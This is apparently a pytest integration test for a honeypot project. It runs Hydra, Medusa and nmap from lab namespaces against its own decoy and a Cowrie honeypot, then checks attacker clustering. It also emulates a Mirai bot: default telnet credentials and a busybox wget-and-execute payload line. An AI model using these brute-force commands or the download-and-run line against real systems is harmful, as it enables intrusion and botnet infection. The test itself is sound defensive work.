# SPDX-License-Identifier: MIT
"""A day of real programs from twelve addresses, at a decoy of ours and at Cowrie: the identities are those who acted.

Together are who offers one key from three addresses, and who guesses by a list of their own from two. Alone are those
who only use what others use, too: Hydra and Medusa with public lists, nmap, the usual commands of Mirai.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import socket
import subprocess
import tempfile
import time
from collections import defaultdict
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import TypeVar

import pytest
from sqlalchemy import Connection, func, select
from tests.decnet_sniff.collect.test_real_honeypots import COWRIE
from tests.decnet_sniff.oracles.oracle_programs import environment

from decnet.drill import private
from decnet.drill.lan.machines import BRIDGE, Lan, lan
from decnet_core.placement.runtimes.namespaces import Namespaces
from decnet_models.database.engine import open_engine, reading
from decnet_models.events.tables import event
from decnet_models.identities.tables import IDENTITIES, identity_pending
from decnet_models.progress.tables import worker_cursor

T = TypeVar("T")

PROGRAMS = ("hydra", "medusa", "nmap", "ssh", "sshpass", "ssh-keygen", "ip", "unshare")
pytestmark = [
    pytest.mark.oracle,
    pytest.mark.timeout(400),
    pytest.mark.skipif(
        os.geteuid() != 0 or not all(map(shutil.which, PROGRAMS)), reason=f"needs root and {', '.join(PROGRAMS)}"
    ),
]

OURS, COWRIES = "10.77.0.11", "10.77.0.12"
ADDRESSES = [f"10.77.9.{number}" for number in range(1, 13)]
PATIENCE = 180
SETTINGS = f"""
[decoys]
failure_delay_ms = 0
address = "{OURS}"

[canary]
http_listen = "127.0.0.1:8880"
dns_listen = "127.0.0.1:8853"

[[collect.source]]
name = "cowrie"
format = "cowrie"
"""
COWRIE_SETTINGS = f"""[honeypot]
hostname = svr04
[ssh]
listen_endpoints = tcp:22:interface={COWRIES}
[telnet]
enabled = true
listen_endpoints = tcp:23:interface={COWRIES}
"""
PUBLIC = ["root:123456", "root:password", "root:admin", "admin:admin", "root:12345678", "user:user", "test:test"]
OWN = ["root:north-Kestrel-1", "deploy:harbor-Kestrel-2", "oracle:granite-Kestrel-3", "backup:willow-Kestrel-4"]
MIRAI = ("root", "xc3511", "enable", "system", "shell", "sh", "/bin/busybox MIRAI", "cat /proc/mounts", "exit")
TYPED = "id\nuname -a\ncat /proc/cpuinfo\nexit\n"
PASSWORD = "P@ssw0rd"  # one of root's at the persona debian-web; Cowrie takes nearly any


class Day:
    """Twelve machines on the LAN, and what they do."""

    def __init__(self, made: Lan, place: Path) -> None:
        self.place = place
        self._machines = Namespaces(place, "day-")
        for number, address in enumerate(ADDRESSES):
            self._machines.create(str(number))
            with self._machines.opened(str(number)) as other:
                peer = f"type veth peer name eth0 netns /proc/{os.getpid()}/fd/{other}"
                made.on_host(lambda: _ip(f"link add day{number} {peer}"))  # noqa: B023  # called at once
            made.on_host(lambda: _ip(f"link set day{number} master {BRIDGE} up"))  # noqa: B023
            self.at(address, lambda: _ip(f"address add {address}/16 dev eth0"))  # noqa: B023
            self.at(address, lambda: _ip("link set eth0 up"))

    def at(self, address: str, function: Callable[[], T]) -> T:
        return self._machines.enter(str(ADDRESSES.index(address)), function)

    def run(self, address: str, *command: str, typed: str = "") -> str:
        """Run a program at an address; return what it printed."""
        done = self.at(
            address,
            lambda: subprocess.run(command, input=typed, capture_output=True, text=True, timeout=100, check=False),
        )
        return done.stdout + done.stderr

    def list_of(self, name: str, entries: list[str]) -> str:
        file = self.place / name
        file.write_text("".join(f"{entry}\n" for entry in entries))
        return str(file)

    def remove(self) -> None:
        for name in self._machines.names():
            self._machines.remove(name)

    def types(self, address: str, target: str, key: str | None = None) -> str:
        """Log in as a person does, with a key if there is one and then a password, and type."""
        options = (
            "StrictHostKeyChecking=no",
            "UserKnownHostsFile=/dev/null",
            "IdentitiesOnly=yes",
            "ConnectTimeout=20",
        )
        offered = ("-i", key) if key else ("-o", "PubkeyAuthentication=no")
        ssh = ("ssh", "-F", "none", "-tt", *(word for one in options for word in ("-o", one)), *offered)
        return self.run(address, "sshpass", "-p", PASSWORD, *ssh, f"root@{target}", typed=TYPED)

    def infects(self, address: str, target: str, host: str) -> str:
        """Do what a bot of Mirai does, with the loader of its own net."""

        def speak() -> str:
            heard = b""
            with socket.create_connection((target, 23), 20) as wire:
                wire.settimeout(3)
                for line in (*MIRAI[:-1], f"/bin/busybox wget http://{host}/bins/mips -O .x; ./.x", MIRAI[-1]):
                    with contextlib.suppress(TimeoutError):
                        heard += wire.recv(4096)
                    wire.sendall(line.encode() + b"\r\n")
                with contextlib.suppress(TimeoutError, ConnectionError):
                    while more := wire.recv(4096):
                        heard += more
            return heard.decode("utf-8", "replace")

        return self.at(address, speak)


def _ip(words: str) -> None:
    subprocess.run(["ip", *words.split()], check=True, timeout=100)


@contextlib.contextmanager
def cowrie(made: Lan, place: Path) -> Iterator[Path]:
    """Run the real Cowrie on the host of the LAN; gives its log."""
    for name in ("etc", "var/log/cowrie", "var/lib/cowrie/tty", "var/lib/cowrie/downloads"):
        (place / name).mkdir(parents=True)
    (place / "etc" / "cowrie.cfg").write_text(COWRIE_SETTINGS)
    twistd = str(environment(COWRIE) / "bin" / "twistd")
    command = ["unshare", "--user", twistd, "--nodaemon", "--pidfile=", "cowrie"]
    with (place / "output").open("wb") as output:
        process = made.on_host(
            lambda: subprocess.Popen(
                command,
                cwd=place,
                stdout=output,
                stderr=output,
                start_new_session=True,
                env={**os.environ, "HOME": str(place)},
            )
        )
        try:
            yield place / "var" / "log" / "cowrie" / "cowrie.json"
        finally:
            os.killpg(process.pid, signal.SIGTERM)
            process.wait(100)


@contextlib.contextmanager
def fleet(made: Lan, place: Path, log: Path) -> Iterator[str]:
    """Run our fleet there; gives the URL of its database."""
    settings = place / "decnet.toml"
    settings.write_text(f'{SETTINGS}path = "{log}"\n')
    given = {"DECNET_STATE_DIR": str(place / "state"), "DECNET_SETTINGS": str(settings)}
    with private.environment(given), private.running(place, "fork", start=made.on_host):
        yield f"sqlite:///{place / 'state' / 'decnet.db'}"


def until(condition: Callable[[], object], what: str) -> None:
    deadline = time.monotonic() + PATIENCE
    while not condition():
        assert time.monotonic() < deadline, what
        time.sleep(0.2)


def answers(day: Day, target: str, port: int) -> bool:
    def dial() -> bool:
        with contextlib.suppress(OSError), socket.create_connection((target, port), 2):
            return True
        return False

    return day.at(ADDRESSES[-1], dial)


def acts(day: Day, key: str) -> dict[str, Callable[[], object]]:
    """Return by address what is done there."""
    own, public = day.list_of("own", OWN), day.list_of("public", PUBLIC)
    passwords = day.list_of("passwords", [entry.partition(":")[2] for entry in PUBLIC])
    a = ADDRESSES
    return {
        a[0]: lambda: day.types(a[0], OURS, key),
        a[1]: lambda: day.types(a[1], COWRIES, key),
        a[2]: lambda: day.types(a[2], OURS, key),
        a[3]: lambda: day.run(a[3], "hydra", "-I", "-t", "2", "-C", own, f"ssh://{OURS}"),
        a[4]: lambda: day.run(a[4], "hydra", "-I", "-t", "2", "-C", own, f"ssh://{COWRIES}"),
        a[5]: lambda: day.run(a[5], "hydra", "-I", "-t", "2", "-C", public, f"ssh://{OURS}"),
        a[6]: lambda: day.run(a[6], "medusa", "-h", COWRIES, "-u", "root", "-P", passwords, "-M", "ssh", "-t", "2"),
        a[7]: lambda: day.run(a[7], "nmap", "-Pn", "-n", "-sV", "-p", "22,80", OURS),
        a[8]: lambda: day.run(a[8], "nmap", "-Pn", "-n", "-sT", "-sC", "-p", "22,23", COWRIES, OURS),
        a[9]: lambda: day.infects(a[9], COWRIES, "198.51.100.9"),
        a[10]: lambda: day.infects(a[10], COWRIES, "203.0.113.5"),
        a[11]: lambda: day.types(a[11], OURS),
    }


def is_settled(connection: Connection, seen: list[int]) -> bool:
    """Return whether all have been seen, no more comes, and the clusterer has nothing left."""
    newest = connection.execute(select(func.max(event.c.seq))).scalar() or 0
    cursor = connection.execute(select(worker_cursor.c.seq).where(worker_cursor.c.worker == "clusterer")).scalar()
    left = connection.execute(select(func.count()).select_from(identity_pending)).scalar_one()
    sources = set(connection.execute(select(event.c.src_ip).distinct()).scalars())
    seen.append(newest if cursor == newest and not left and sources >= set(ADDRESSES) else 0)
    return len(seen) > 20 and min(seen[-20:]) == newest > 0


def identities(connection: Connection) -> set[frozenset[str]]:
    c, found = IDENTITIES.member.c, defaultdict(set)
    for attacker, identity in connection.execute(select(c.attacker, c.identity)):
        found[identity].add(attacker)
    return {frozenset(members) for members in found.values()}


def test_identities_are_those_who_acted() -> None:
    with tempfile.TemporaryDirectory() as name, lan(Path(name)) as made:
        place = Path(name)
        for address in (OURS, COWRIES):
            made.on_host(lambda: _ip(f"address add {address}/16 dev {BRIDGE}"))  # noqa: B023
        made.on_host(lambda: Path("/proc/sys/net/ipv4/ip_unprivileged_port_start").write_text("0"))  # for Cowrie
        day = Day(made, place)
        try:
            with cowrie(made, place / "cowrie") as log, fleet(made, place, log) as database:
                for target, port in ((OURS, 22), (OURS, 80), (COWRIES, 22), (COWRIES, 23)):
                    until(lambda: answers(day, target, port), f"{target} answers at {port}")  # noqa: B023
                key = str(place / "key")
                subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True, timeout=100)
                with ThreadPoolExecutor(4) as several:
                    said = {address: several.submit(act) for address, act in acts(day, key).items()}
                told = {address: str(one.result()) for address, one in said.items()}
                engine, seen = open_engine(database, read_only=True), list[int]()

                def settled() -> bool:
                    with reading(engine) as connection:
                        return is_settled(connection, seen)

                until(settled, f"the clusterer has settled: {told}")
                with reading(engine) as connection:
                    found = identities(connection)
                engine.dispose()
        finally:
            day.remove()
    several_each = {members for members in found if len(members) > 1}
    assert several_each == {frozenset(ADDRESSES[:3]), frozenset(ADDRESSES[3:5])}, told
